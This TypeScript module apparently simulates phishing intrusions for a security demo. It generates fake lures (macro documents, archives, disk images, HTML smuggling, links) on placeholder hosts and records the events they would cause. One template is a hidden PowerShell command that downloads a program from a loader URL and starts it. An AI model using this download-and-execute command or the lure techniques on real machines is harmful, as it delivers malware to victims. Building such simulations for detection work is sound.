import type { Random } from '../../../core/demo/random.ts'
import { MINUTE, SECOND } from './clock.ts'
import type { Process } from './machine.ts'
import type { Attachment } from './mail.ts'
import type { Session } from './session.ts'

/** How the mail gets its recipient to run something. */
export const ENTRIES = ['macro', 'archive', 'image', 'smuggling', 'link', 'link-by-log'] as const
export type Entry = (typeof ENTRIES)[number]

/** What the attacker prepared. */
export interface Lure {
  readonly entry: Entry
  readonly subject: string
  readonly attachment: Attachment | null
  readonly url: string | null
  readonly urlIp: string
  /** The file behind the link. */
  readonly payload: Attachment
  readonly controlDomain: string
  readonly controlIp: string
  readonly loaderUrl: string
  readonly loaderIp: string
}

const TOPICS = ['Invoice', 'Remittance', 'Delivery-note', 'Quotation', 'Contract', 'Payroll'] as const
const EXTENSIONS = { macro: 'docm', archive: 'zip', image: 'iso', smuggling: 'html' } as const
const SYSTEM = 'C:\\Windows\\System32\\'
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`

export function makeLure(random: Random): Lure {
  const entry = random.pick(ENTRIES)
  const name = `${random.pick(TOPICS)}_${random.between(1000, 9999)}`
  const isLink = entry === 'link' || entry === 'link-by-log'
  const host = `${random.pick(['share', 'files', 'docs'])}-${random.hex(5)}.test`
  return {
    entry,
    subject: `${name.replace('_', ' ')} for your approval`,
    attachment: isLink ? null : { name: `${name}.${EXTENSIONS[entry]}`, sha256: random.hex(64) },
    url: isLink ? `https://${host}/d/${random.hex(8)}` : null,
    urlIp: `203.0.113.${random.between(10, 60)}`,
    payload: { name: `${name}.exe`, sha256: random.hex(64) },
    controlDomain: `cdn-${random.hex(6)}.test`,
    controlIp: `203.0.113.${random.between(100, 160)}`,
    loaderUrl: `http://203.0.113.${random.between(170, 180)}/${random.hex(4)}.exe`,
    loaderIp: '',
  }
}

/**
 * The recipient does what the mail wants. Returns the process through which the attacker acts from then on.
 * @param at when the recipient opens the attachment or follows the link
 */
export function enter(session: Session, lure: Lure, at: number): Process {
  switch (lure.entry) {
    case 'macro':
      return macro(session, lure, at)
    case 'archive':
      return archive(session, lure, at)
    case 'image':
      return diskImage(session, lure, at)
    case 'smuggling':
      return smuggling(session, lure, at)
    case 'link':
    case 'link-by-log':
      return link(session, lure, at)
  }
}

const isHashed = (session: Session): boolean => session.world.random.chance(0.6)
const attachmentOf = (lure: Lure): Attachment => {
  if (!lure.attachment) throw new Error('This lure has no attachment')
  return lure.attachment
}

/** A command that fetches a program and runs it; the shell writes the file. */
function load(session: Session, parent: Process, lure: Lure, at: number, macroOf?: string): Process {
  const path = `C:\\ProgramData\\${session.world.random.hex(6)}.exe`
  const command = `"${POWERSHELL}" -nop -w hidden -c "Invoke-WebRequest -Uri ${lure.loaderUrl} -OutFile ${path}; Start-Process ${path}"`
  const { machine, who } = session
  const shell = machine.start(parent, POWERSHELL, command, who, at)
  machine.connect(shell, new URL(lure.loaderUrl).hostname, 80, at + SECOND)
  machine.write(shell, path, at + 2 * SECOND, { sha256: lure.payload.sha256 })
  // Word held one document when it started a shell: the macro is in that.
  if (macroOf !== undefined) machine.sayExecuted(macroOf, shell, true)
  machine.sayOrderedDownload(shell, lure.loaderUrl, path)
  return machine.start(shell, path, `"${path}"`, who, at + 4 * SECOND, { sha256: lure.payload.sha256 })
}

function macro(session: Session, lure: Lure, at: number): Process {
  const path = session.saveAttachment(attachmentOf(lure), at, isHashed(session))
  const word = session.openDocument(path, at + 3 * SECOND)
  return load(session, word, lure, at + 40 * SECOND, path)
}

/** The script inside the archive is opened out of Explorer's compressed folder, or out of 7-Zip's window. */
function archive(session: Session, lure: Lure, at: number): Process {
  const file = attachmentOf(lure)
  const container = session.saveToDownloads(file, at, isHashed(session))
  const member = file.name.replace('.zip', '.js')
  if (session.world.random.chance(0.4))
    return load(session, fromSevenZip(session, container, member, at + MINUTE), lure, at + 2 * MINUTE)
  const script = `${session.home}AppData\\Local\\Temp\\Temp1_${file.name}\\${member}`
  return load(session, fromArchive(session, container, script, at + MINUTE), lure, at + 2 * MINUTE)
}

/** A member opened in 7-Zip's window is written to a folder of 7-Zip's and started by it. */
function fromSevenZip(session: Session, container: string, member: string, at: number): Process {
  const { machine, who, world } = session
  const program = 'C:\\Program Files\\7-Zip\\7zFM.exe'
  const window = session.run(program, `"${program}" "${container}"`, at, [container])
  const script = `${session.home}AppData\\Local\\Temp\\7zO${world.random.hex(8).toUpperCase()}\\${member}`
  machine.write(window, script, at + 5 * SECOND)
  machine.sayExtracted(container, script, at + 5 * SECOND)
  const command = `"${SYSTEM}wscript.exe" "${script}"`
  return machine.start(window, `${SYSTEM}wscript.exe`, command, who, at + 6 * SECOND, { opens: [script] })
}

function fromArchive(session: Session, container: string, script: string, at: number): Process {
  session.machine.write(session.explorer, script, at)
  session.machine.sayExtracted(container, script, at)
  const command = `"${SYSTEM}wscript.exe" "${script}"`
  return session.run(`${SYSTEM}wscript.exe`, command, at + 2 * SECOND, [script])
}

/** A mounted image: a program runs from a drive letter that was not there before. */
function diskImage(session: Session, lure: Lure, at: number): Process {
  const file = attachmentOf(lure)
  const path = session.saveToDownloads(file, at, isHashed(session))
  return fromImage(session, path, lure, at + MINUTE)
}

function fromImage(session: Session, image: string, lure: Lure, at: number): Process {
  const program = `E:\\${lure.payload.name}`
  session.machine.sayExtracted(image, program, at)
  return session.machine.start(session.explorer, program, `"${program}"`, session.who, at, {
    sha256: lure.payload.sha256,
    directory: 'E:\\',
  })
}

/** The page in the attachment makes the archive itself; the browser saves it. */
function smuggling(session: Session, lure: Lure, at: number): Process {
  const page = session.saveAttachment(attachmentOf(lure), at, isHashed(session))
  const edge = session.openPage(page, at + 3 * SECOND)
  const container = `${session.home}Downloads\\${lure.payload.name.replace('.exe', '.zip')}`
  session.machine.mark(edge, container, at + 30 * SECOND, { sha256: session.world.hash() })
  const script = `${session.home}AppData\\Local\\Temp\\Temp1_${lure.payload.name.replace('.exe', '.zip')}\\view.js`
  return load(session, fromArchive(session, container, script, at + MINUTE), lure, at + 2 * MINUTE)
}

/** The link leads to a program or an image, which the browser marks with where it came from. */
function link(session: Session, lure: Lure, at: number): Process {
  const url = lure.url ?? ''
  const browser = lure.entry === 'link' ? session.followLink(url, at) : session.edge(at - MINUTE)
  session.machine.resolve(browser, new URL(url).hostname, lure.urlIp, at + 200_000)
  session.machine.connect(browser, lure.urlIp, 443, at + 400_000)
  session.request(url, at + SECOND, true, { sent: 500, received: 90_000 })
  const isImage = session.world.random.chance(0.4)
  const path = `${session.home}Downloads\\${isImage ? lure.payload.name.replace('.exe', '.iso') : lure.payload.name}`
  const sha256 = isImage ? session.world.hash() : lure.payload.sha256
  session.download(browser, url, path, at + 8 * SECOND, sha256)
  session.sayOpenedByMark(url, at + 8 * SECOND)
  if (isImage) return fromImage(session, path, lure, at + MINUTE)
  return session.machine.start(session.explorer, path, `"${path}"`, session.who, at + 50 * SECOND, { sha256 })
}
